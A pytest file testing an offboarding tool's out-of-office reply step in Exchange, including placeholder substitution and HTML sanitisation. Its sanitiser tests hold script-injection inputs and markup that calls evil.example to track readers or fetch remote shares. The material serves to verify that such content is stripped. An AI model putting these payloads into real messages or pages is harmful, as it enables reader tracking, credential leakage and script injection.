"""Arriving mail is answered with a message."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

import pytest

from dev.tenant import seed
from shared.actions import catalogue
from shared.base.problems import RefusedError

if TYPE_CHECKING:
    from dev.lab import Lab

NAME = "set_out_of_office"
CMDLET = "Set-MailboxAutoReplyConfiguration"


def message(internal: str = "<p>I have left.</p>", **more: Any) -> dict[str, Any]:
    return {NAME: {"internal": internal, **more}}


def body(lab: Lab, kind: str = "Internal", user_id: str = seed.ADA) -> str:
    """Return what is in the page that Exchange makes of a message."""
    page: str = lab.mailbox(user_id)["auto_reply"][f"{kind}Message"]
    return re.sub(r"</?(?:html|body)>", "", page).strip()


def test_one_message_answers_everybody(lab: Lab) -> None:
    result = lab.offboard(seed.ADA, message())

    reply = lab.mailbox(seed.ADA)["auto_reply"]
    assert result.outcome(NAME) == "done"
    assert (reply["AutoReplyState"], reply["ExternalAudience"]) == ("Enabled", "All")
    assert body(lab) == body(lab, "External") == "<p>I have left.</p>"


def test_colleagues_and_others_can_get_messages_of_their_own(lab: Lab) -> None:
    result = lab.offboard(seed.ADA, message("Ask Cy.", external="Ask sales.", audience="known"))

    assert result.outcome(NAME) == "done"
    assert (body(lab), body(lab, "External")) == ("Ask Cy.", "Ask sales.")
    assert lab.mailbox(seed.ADA)["auto_reply"]["ExternalAudience"] == "Known"


def test_others_can_get_no_answer(lab: Lab) -> None:
    lab.offboard(seed.ADA, message(audience="none"))

    assert lab.mailbox(seed.ADA)["auto_reply"]["ExternalAudience"] == "None"


def test_the_second_time_nothing_is_written(lab: Lab) -> None:
    lab.offboard(seed.ADA, message("Ask <b>%manager%</b>\n& Co."))

    result = lab.offboard(seed.ADA, message("Ask <b>%manager%</b>\n& Co."))

    assert result.outcome(NAME) == "already_done"
    assert CMDLET not in result.writes()


def test_another_message_replaces_the_first(lab: Lab) -> None:
    lab.offboard(seed.ADA, message())

    result = lab.offboard(seed.ADA, message("<p>Gone.</p>"))

    assert result.outcome(NAME) == "done"
    assert body(lab) == "<p>Gone.</p>"


def test_a_step_that_died_before_its_record_tells_the_same_story(lab: Lab) -> None:
    assert lab.offboard_killed(NAME, seed.ADA, message()).outcome(NAME) == "done"


@pytest.mark.parametrize("user", [seed.NO_MAILBOX, seed.GUEST])
def test_without_a_mailbox_there_is_nothing_to_answer(lab: Lab, user: str) -> None:
    result = lab.offboard(user, message())

    assert result.outcome(NAME) == "not_applicable"
    assert CMDLET not in result.writes()


def test_a_synced_leavers_mailbox_answers(lab: Lab) -> None:
    assert lab.offboard(seed.SYNCED, message(), tenant="hybrid.example").outcome(NAME) == "done"


def test_one_request_beside_the_snapshot_and_the_proof(lab: Lab) -> None:
    result = lab.offboard(seed.ADA, message())

    assert result.count("exchange") == 3
    assert result.count("graph") == 2


def test_the_message_comes_after_the_inbox_rules(lab: Lab) -> None:
    """Automatic replies live in the table of the rules; what Exchange keeps of them there stays."""
    for order in range(5):
        lab.simulator.reset()
        result = lab.offboard(seed.ADA, message() | {"remove_inbox_rules": True}, order=order)
        assert result.writes()[-1] == CMDLET
    assert any(rule["Name"].startswith("Microsoft.Exchange.OOF.") for rule in lab.mailbox(seed.ADA)["rules"])


def test_the_message_is_set_before_licenses_go(lab: Lab) -> None:
    for order in range(5):
        lab.simulator.reset()
        result = lab.offboard(seed.ADA, message() | {"remove_licenses": True}, order=order, force=True)
        writes = result.writes()
        assert writes.index(CMDLET) < next(n for n, write in enumerate(writes) if "assignLicense" in write)


def test_beside_forwarding_the_operator_is_warned(lab: Lab) -> None:
    result = lab.offboard(seed.ADA, message() | {"forward_email": {"to": seed.CY}})

    assert [result.outcome(NAME), result.outcome("forward_email")] == ["done", "done"]
    assert any("may not send the out-of-office message" in warning for warning in result.offboarding.warnings)


def test_beside_a_deletion_of_the_account_it_is_refused(lab: Lab) -> None:
    with pytest.raises(RefusedError):
        lab.submit(seed.ADA, message() | {"delete_user": True})


@pytest.mark.parametrize("text", ["", "  \n", "<p></p>", "<p>&nbsp;<br></p>", "x" * 12_001])
def test_a_message_that_says_nothing_or_too_much_is_refused(lab: Lab, text: str) -> None:
    for wrong in (message(text), message(external=text)):
        with pytest.raises(RefusedError):
            lab.submit(seed.ADA, wrong)


def test_the_longest_message_fits(lab: Lab) -> None:
    assert lab.offboard(seed.ADA, message("x" * 12_000, external="y" * 12_000)).outcome(NAME) == "done"


def test_scripts_forms_and_handlers_are_cleaned_away(lab: Lab) -> None:
    dirty = "<p onclick='x()'>Gone<script>alert(1)</script> <a href='javascript:x()'>there</a></p><form></form>"

    result = lab.offboard(seed.ADA, message(dirty))

    assert result.outcome(NAME) == "done"
    assert "Gone" in body(lab)
    assert not re.search("script|onclick|form", body(lab))


@pytest.mark.parametrize(
    "dirty",
    [
        '<img src="https://evil.example/track.gif?who=%displayname%">',
        '<img src="\\\\evil.example\\share\\x.png">',
        '<picture><source srcset="//evil.example/x"><img srcset="//evil.example/x"></picture>',
        '<a href="\\\\evil.example\\share">x</a><a href="//evil.example/x">x</a><a href="file://evil.example/x">x</a>',
        '<a href="https:\\\\evil.example">x</a><a href="evil.example">x</a>',
        '<table background="https://evil.example/x"><tr><td style="background:url(//evil.example)">x</td></tr></table>',
        '<video poster="//evil.example/x" src="//evil.example/y"></video><link href="//evil.example/x">',
        '<svg><image href="//evil.example/x"/></svg><blockquote cite="//evil.example/x">x</blockquote>',
    ],
)
def test_nothing_is_fetched_for_whoever_reads_it(lab: Lab, dirty: str) -> None:
    result = lab.offboard(
        seed.ADA, message(f"<p>Gone, <b>ask</b> <a href='mailto:cy@fabrikam.example'>Cy</a></p>{dirty}")
    )

    assert result.outcome(NAME) == "done"
    assert "evil.example" not in body(lab)
    assert "<b>ask</b>" in body(lab)
    assert 'href="mailto:cy@fabrikam.example"' in body(lab)
    assert "Taken out of the message" in result.message(NAME)


def test_what_is_taken_out_is_said_at_submit_and_at_the_end(lab: Lab) -> None:
    action = catalogue.get(NAME)
    internal = "<p style='x' onclick='x()'>Gone<script>alert(1)</script></p>"
    dirty = {"internal": internal, "external": "<form>Gone</form>"}
    told = "Taken out of the message, as it could run or call home: <form>, <script>, onclick, style."

    assert list(action.remarks({**dirty, "audience": "all"})) == [f"{action.title}: {told}"]
    assert told in lab.offboard(seed.ADA, {NAME: dirty}).message(NAME)


def test_of_a_harmless_message_nothing_is_said_to_be_taken_out(lab: Lab) -> None:
    result = lab.offboard(seed.ADA, message("<html><body><p>Ask <a href='https://fabrikam.example'>us</a></p></body>"))

    assert "Taken out" not in result.message(NAME)


def test_the_lines_of_plain_text_stay_lines(lab: Lab) -> None:
    lab.offboard(seed.ADA, message("I have left.\r\nAsk Cy & Bo:\n1 < 2\n\nBye"))

    assert body(lab) == "I have left.<br>Ask Cy &amp; Bo:<br>1 &lt; 2<br><br>Bye"


def test_the_lines_of_html_are_left_to_the_html(lab: Lab) -> None:
    lab.offboard(seed.ADA, message("<p>One</p>\n<p>Two</p>"))

    assert "<br" not in body(lab)


def test_placeholders_stand_for_the_leaver_and_the_tenant(lab: Lab) -> None:
    text = "%DisplayName% (%USERNAME%) left %tenantname%, %defaultdomain%, %tenantid%, %initialdomain%: ask %manager%."

    result = lab.offboard(seed.ADA, message(text))

    assert result.outcome(NAME) == "done"
    assert body(lab) == (
        f"Ada Castell (ada@fabrikam.example) left Fabrikam, fabrikam.example, {seed.FABRIKAM}, "
        "fabrikam.onmicrosoft.example: ask Cy Brandt (cy@fabrikam.example)."
    )
    assert result.offboarding.warnings == ()


def test_the_manager_is_asked_for_only_where_the_message_names_him(lab: Lab) -> None:
    without, having = lab.offboard(seed.ADA, message()), lab.offboard(seed.ADA, message(external="Ask %Manager%."))

    def asked(result: Any) -> bool:
        return any("/manager" in item["url"] for sent in result.requests for item in sent["items"])

    assert (asked(without), asked(having)) == (False, True)
    assert body(lab, "External") == "Ask Cy Brandt (cy@fabrikam.example)."


def test_a_name_cannot_become_markup_or_another_placeholder(lab: Lab) -> None:
    name = 'Ada <b>"O\'Neill"</b> & %tenantid%'
    lab.simulator.arrange("fabrikam.example", "user", user=seed.ADA, set={"displayName": name})

    result = lab.offboard(seed.ADA, message("<p>%displayname%</p>"))

    assert result.outcome(NAME) == "done"
    assert "<b>" not in body(lab)
    assert "&lt;b&gt;" in body(lab)
    assert "%tenantid%" in body(lab)


def test_an_unknown_placeholder_stays_and_is_told_at_submit_and_at_the_end(lab: Lab) -> None:
    result = lab.offboard(seed.ADA, message("%firstname% has %5 and 50% of 100% left: %nickname% %displayname%"))

    assert result.outcome(NAME) == "done"
    assert body(lab) == "%firstname% has %5 and 50% of 100% left: %nickname% Ada Castell"
    told = [result.message(NAME), *result.offboarding.warnings]
    assert len(told) == 2
    assert all("%firstname%, %nickname%" in text for text in told)


def test_a_placeholder_without_a_value_stays_and_needs_attention(lab: Lab) -> None:
    result = lab.offboard(seed.CY, message("Ask %manager%."))

    assert result.outcome(NAME) == "needs_attention"
    assert "%manager%" in result.message(NAME)
    assert body(lab, user_id=seed.CY) == "Ask %manager%."
    assert result.offboarding.state == "Completed"


def test_a_manager_that_cannot_be_read_fails_the_step_and_writes_nothing(lab: Lab) -> None:
    rule = {"service": "graph", "match": "/manager", "kind": "status", "status": 400, "probability": 1}
    lab.simulator.faults([rule])

    result = lab.offboard(seed.ADA, message("Ask %manager%."))

    assert result.outcome(NAME) == "failed"
    assert "The manager could not be read" in result.message(NAME)
    assert CMDLET not in result.writes()


def test_without_its_exchange_role_the_step_says_what_to_do(lab: Lab) -> None:
    lab.simulator.arrange("fabrikam.example", "revoke_entra_role", role="Exchange Administrator")

    result = lab.offboard(seed.ADA, message() | {"disable_sign_in": True})

    assert result.outcome(NAME) == "failed"
    assert "Exchange Administrator" in result.message(NAME)
    assert result.outcome("disable_sign_in") == "done"


def test_the_portals_editor_is_read() -> None:
    action = catalogue.get(NAME)

    assert action.from_portal({"ooo": "<p>Gone</p>"}) == {
        "internal": "<p>Gone</p>",
        "external": None,
        "audience": "all",
    }
    assert [action.from_portal({"ooo": empty}) for empty in ("", "<p></p>", None)] == [None, None, None]
    assert action.from_portal({}) is None


def test_plain_text_arrives_as_it_was_written(lab: Lab) -> None:
    text = "Gone since 1 < 2 weeks.\nAsk Jane <jane@fabrikam.example> & co."

    result = lab.offboard(seed.ADA, {"set_out_of_office": {"internal": text}})

    page = lab.mailbox(seed.ADA)["auto_reply"]["InternalMessage"]
    assert "Gone since 1 &lt; 2 weeks.<br>Ask Jane &lt;jane@fabrikam.example&gt; &amp; co." in page
    assert result.outcome("set_out_of_office") == "done"
